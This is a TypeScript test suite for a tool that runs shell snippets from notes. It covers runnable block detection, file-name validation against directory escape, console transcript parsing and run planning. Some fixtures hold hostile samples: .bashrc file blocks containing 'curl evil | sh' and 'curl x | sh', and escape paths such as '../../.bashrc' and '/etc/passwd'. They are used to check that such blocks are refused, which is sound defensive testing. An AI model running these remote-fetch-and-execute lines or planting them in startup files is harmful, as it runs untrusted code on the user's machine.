import assert from 'node:assert/strict';
import {
  checkFileName,
  consoleCommands,
  defaultShellFor,
  findBlockAtLine,
  findBlockByName,
  isFileBlock,
  isRunnableBlock,
  planRun,
  scriptOfBlock,
} from '../../../../common/runner/runnable';
import { fence } from './helpers';

describe('snippets: what runs', () => {
  it('runs fenced shell blocks only', () => {
    for (const lang of ['bash', 'sh', 'shell', 'zsh', 'console', 'BASH']) {
      assert.equal(isRunnableBlock(fence(lang, 'echo hi')), true, lang);
    }
    for (const lang of ['python', 'text', 'output', '', 'powershell']) {
      assert.equal(isRunnableBlock(fence(lang, 'echo hi')), false, lang);
    }
    assert.equal(isRunnableBlock({ ...fence('bash', 'echo hi'), fenced: false }), false);
  });

  it('treats any block with file= as a file block, not a command', () => {
    assert.equal(isFileBlock(fence('verilog file=AluTop.v', 'module m; endmodule')), true);
    assert.equal(isFileBlock(fence('bash file=setup.sh', 'echo hi')), true);
    assert.equal(isRunnableBlock(fence('bash file=setup.sh', 'echo hi')), false);
    assert.equal(isFileBlock(fence('verilog', 'module m; endmodule')), false);
    assert.equal(isFileBlock({ ...fence('cpp file=a.cpp', ''), fenced: false }), false);
  });

  it('picks zsh for zsh blocks and bash otherwise', () => {
    assert.equal(defaultShellFor('zsh'), 'zsh');
    assert.equal(defaultShellFor('sh'), '/bin/bash');
    assert.equal(defaultShellFor('console'), '/bin/bash');
  });
});

describe('snippets: file names', () => {
  it('accepts names inside the run directory, normalised', () => {
    assert.deepEqual(checkFileName('AluTop.v'), { name: 'AluTop.v' });
    assert.deepEqual(checkFileName('src/rtl/AluTop.v'), { name: 'src/rtl/AluTop.v' });
    assert.deepEqual(checkFileName('./tb.cpp'), { name: 'tb.cpp' });
    assert.deepEqual(checkFileName('a/../b.txt'), { name: 'b.txt' });
  });

  it('rejects names that escape the directory or are absolute', () => {
    const cases: Array<[string, RegExp]> = [
      ['../x', /escapes the run's directory/],
      ['a/../../x', /escapes the run's directory/],
      ['..', /escapes the run's directory/],
      ['/etc/passwd', /is absolute/],
      ['~/.bashrc', /is absolute/],
      ['C:\\x', /contains "\\"/],
      ['C:/x', /is absolute/],
      ['a\\..\\..\\x', /contains "\\"/],
      ['', /empty/],
      ['.', /names a folder/],
      ['dir/', /names a folder/],
      ['a\0b', /NUL/],
    ];
    for (const [name, expected] of cases) {
      const result = checkFileName(name);
      assert.ok('error' in result, `${JSON.stringify(name)} should be rejected`);
      assert.match(result.error, expected, name);
    }
  });
});

describe('snippets: console transcripts', () => {
  it('runs only the $ lines and strips the prompt', () => {
    const transcript = ['$ nvidia-smi -L', 'GPU 0: NVIDIA H100 80GB HBM3 (UUID: GPU-1)', '$ echo done', 'done'].join('\n');
    assert.deepEqual(consoleCommands(transcript), ['nvidia-smi -L', 'echo done']);
    assert.equal(scriptOfBlock('console', transcript), 'nvidia-smi -L\necho done');
  });

  it('does not run # lines, which in transcripts are as often output as root prompts', () => {
    assert.deepEqual(consoleCommands('$ cat setup.sh\n# install deps\nrm -rf build\n$ ls'), ['cat setup.sh', 'ls']);
  });

  it('joins continued commands, with or without a > prompt', () => {
    const transcript = ['$ verilator --cc \\', '>   --build AluTop.v', '$ make \\', '  all', 'output'].join('\n');
    assert.deepEqual(consoleCommands(transcript), ['verilator --cc \\\n  --build AluTop.v', 'make \\\n  all']);
  });

  it('skips bare prompts and keeps an escaped trailing backslash as the end of a command', () => {
    assert.deepEqual(consoleCommands('$\n$ echo a\\\\\nb'), ['echo a\\\\']);
  });

  it('passes other shells’ text through unchanged', () => {
    assert.equal(scriptOfBlock('bash', '$ not a prompt here\n'), '$ not a prompt here\n');
  });
});

describe('snippets: run plans', () => {
  const module = fence('verilog file=AluTop.v', 'module AluTop; endmodule', 2);
  const run = fence('bash {name=build timeout=120}', 'verilator --build AluTop.v tb.cpp', 6);
  const testbench = fence('cpp file=tb.cpp', 'int main() { return 0; }', 10);
  const other = fence('python', 'print(1)', 14);

  it('in a note without headings, writes its file blocks, before or after the chosen block', () => {
    const plan = planRun([module, run, testbench, other], run);
    assert.deepEqual(plan.errors, []);
    assert.equal(plan.script, 'verilator --build AluTop.v tb.cpp');
    assert.deepEqual(plan.options, { name: 'build', timeoutSec: 120 });
    assert.deepEqual(
      plan.files.map((f) => [f.name, f.content, f.line]),
      [
        ['AluTop.v', 'module AluTop; endmodule\n', 2],
        ['tb.cpp', 'int main() { return 0; }\n', 10],
      ],
    );
  });

  it("writes only the file blocks of the snippet's own section, never one under another heading", () => {
    // # Build (line 0) · AluTop.v · the run · tb.cpp · ## Appendix (line 12) · <details> .bashrc
    const bashrc = fence('sh file=.bashrc', 'curl evil | sh', 16);
    const plan = planRun([module, run, testbench, bashrc], run, [0, 12]);
    assert.deepEqual(
      plan.files.map((f) => f.name),
      ['AluTop.v', 'tb.cpp'],
    );
    const underAppendix = planRun([module, run, testbench, bashrc], run, [0, 5, 12]);
    assert.deepEqual(
      underAppendix.files.map((f) => f.name),
      ['tb.cpp'],
      'a heading between the module and the run splits them',
    );
  });

  it('writes exactly the file blocks a snippet names with files=, wherever they are', () => {
    const named = fence('bash {files=tb.cpp}', 'g++ tb.cpp', 6);
    const plan = planRun([module, named, testbench], named, [0, 5, 9]);
    assert.deepEqual(plan.errors, []);
    assert.deepEqual(
      plan.files.map((f) => f.name),
      ['tb.cpp'],
    );
  });

  it('refuses to run when files= names a file the note has no block for', () => {
    const named = fence('bash {files=AluTop.v,missing.v}', 'make', 6);
    const plan = planRun([module, named], named);
    assert.deepEqual(plan.errors, ['block at line 7: files=missing.v: the note has no file block named missing.v']);
  });

  it('uses the later of two file blocks with one name, and says so', () => {
    const again = fence('verilog file=./AluTop.v', 'module AluTop2; endmodule', 20);
    const plan = planRun([module, run, again], run);
    assert.deepEqual(
      plan.files.map((f) => f.content),
      ['module AluTop2; endmodule\n'],
    );
    assert.match(plan.warnings[0], /AluTop\.v is written by the blocks at lines 3 and 21; the later one is used/);
  });

  it('refuses to run when a file block escapes the directory', () => {
    const evil = fence('sh file=../../.bashrc', 'curl x | sh', 30);
    const plan = planRun([evil, run], run);
    assert.match(plan.errors.join('\n'), /file block at line 31: file name "\.\.\/\.\.\/\.bashrc" escapes the run's directory/);
    assert.deepEqual(plan.files, []);
  });

  it('refuses blocks that are not runnable, saying why', () => {
    assert.match(
      planRun([other], other).errors[0],
      /line 15 is not runnable: language "python" is not one of bash, sh, shell, zsh, console/,
    );
    assert.match(planRun([module], module).errors[0], /is not runnable: it is a file block \(file=AluTop\.v\)/);
    const indented = { ...fence('bash', 'ls'), fenced: false };
    assert.match(planRun([indented], indented).errors[0], /only fenced blocks run/);
  });

  it('refuses empty blocks and console blocks without commands', () => {
    const empty = fence('bash', '  \n', 4);
    assert.match(planRun([empty], empty).errors[0], /block at line 5 is empty/);
    const transcript = fence('console', 'just output\n', 8);
    assert.match(planRun([transcript], transcript).errors[0], /console block at line 9 has no "\$ " command lines/);
  });

  it('reports bad options of the chosen block with its line', () => {
    const bad = fence('bash timeout=forever', 'ls', 40);
    assert.match(planRun([bad], bad).errors[0], /block at line 41: option timeout=forever/);
  });

  it('finds blocks by name and by line', () => {
    const blocks = [module, run, testbench];
    assert.equal(findBlockByName(blocks, 'build'), run);
    assert.equal(findBlockByName(blocks, 'nope'), undefined);
    assert.equal(findBlockAtLine(blocks, 6), run);
    assert.equal(findBlockAtLine(blocks, 7), run);
    assert.equal(findBlockAtLine(blocks, 2), undefined, 'file blocks are not run by line');
  });
});
